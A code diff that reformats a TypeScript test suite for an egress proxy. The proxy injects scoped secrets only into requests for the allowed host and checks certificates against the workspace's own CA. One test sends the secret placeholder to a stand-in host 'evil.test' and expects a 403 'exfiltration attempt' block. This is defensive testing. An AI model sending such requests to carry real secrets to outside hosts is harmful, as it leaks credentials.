@@ -85,7 +85,10 @@ describe("egress proxy with scoped secrets (real processes, loopback servers)", 
 
   it("writes the value only into requests for the secret's host (header and body), and never returns it", async () => {
     const body = `{"token":"${PLACEHOLDER}"}`;
-    const out = await httpsThroughProxy("api.test", `POST /v1?k=${PLACEHOLDER} HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`);
+    const out = await httpsThroughProxy(
+      "api.test",
+      `POST /v1?k=${PLACEHOLDER} HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`,
+    );
     const got = upstream.received.at(-1)!;
     assert.equal(got.headers.authorization, `Bearer ${VALUE}`);
     assert.equal(got.url, `/v1?k=${VALUE}`);
@@ -99,7 +102,10 @@ describe("egress proxy with scoped secrets (real processes, loopback servers)", 
     const chunks = [`a${PLACEHOLDER.slice(0, 7)}`, PLACEHOLDER.slice(7, 30), `${PLACEHOLDER.slice(30)}z`];
     const chunked = chunks.map((c) => `${c.length.toString(16)}\r\n${c}\r\n`).join("") + "0\r\n\r\n";
     const basic = Buffer.from(`git:${PLACEHOLDER}`).toString("base64");
-    await httpsThroughProxy("api.test", `POST /c HTTP/1.1\r\nHost: api.test\r\nAuthorization: Basic ${basic}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunked}`);
+    await httpsThroughProxy(
+      "api.test",
+      `POST /c HTTP/1.1\r\nHost: api.test\r\nAuthorization: Basic ${basic}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunked}`,
+    );
     const got = upstream.received.at(-1)!;
     assert.equal(got.body, `a${VALUE}z`, "a placeholder split across chunks is substituted");
     assert.equal(Buffer.from(got.headers.authorization!.replace(/^Basic /, ""), "base64").toString(), `git:${VALUE}`);
@@ -114,7 +120,9 @@ describe("egress proxy with scoped secrets (real processes, loopback servers)", 
       let o = "";
       s.on("data", (d) => (o += d));
       s.on("close", () => resolve(o));
-      s.write(`POST http://evil.test:${upstream.port}/x HTTP/1.1\r\nHost: evil.test\r\nContent-Length: ${PLACEHOLDER.length}\r\nConnection: close\r\n\r\n${PLACEHOLDER}`);
+      s.write(
+        `POST http://evil.test:${upstream.port}/x HTTP/1.1\r\nHost: evil.test\r\nContent-Length: ${PLACEHOLDER.length}\r\nConnection: close\r\n\r\n${PLACEHOLDER}`,
+      );
     });
     assert.match(plain, /^HTTP\/1\.1 403 [\s\S]*exfiltration attempt/);
     assert.equal(upstream.received.length, before, "nothing reached the upstream");
@@ -141,6 +149,9 @@ describe("egress proxy with scoped secrets (real processes, loopback servers)", 
 
   it("presents certificates only the workspace's own CA verifies", async () => {
     const other = await mintCertificateAuthority("another-workspace");
-    await assert.rejects(httpsThroughProxy("api.test", "GET / HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n", other.certPem), /self-signed|unable to (get|verify)|certificate/);
+    await assert.rejects(
+      httpsThroughProxy("api.test", "GET / HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n", other.certPem),
+      /self-signed|unable to (get|verify)|certificate/,
+    );
   });
 });
